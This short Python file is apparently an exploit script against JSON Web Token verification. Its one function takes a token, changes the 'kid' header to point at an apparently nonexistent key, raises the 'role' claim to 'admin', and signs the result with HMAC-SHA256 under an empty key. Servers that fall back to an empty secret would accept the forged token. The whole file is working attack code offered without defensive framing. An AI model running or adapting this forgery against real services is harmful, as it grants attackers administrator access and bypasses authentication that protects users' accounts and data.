"""The old kid with something behind it; hmac.digest."""

import base64
import hmac
import json


def decode(segment):
    return json.loads(base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4)))


def encode(data):
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def forge_empty_key(token):
    header, claims = map(decode, token.split(".")[:2])
    header["kid"] = header.get("kid", "") + "-from-another-year"
    claims["role"] = "admin"
    message = ".".join(encode(json.dumps(part, separators=(",", ":")).encode()) for part in (header, claims))
    return f"{message}.{encode(hmac.digest(b'', message.encode(), 'sha256'))}"
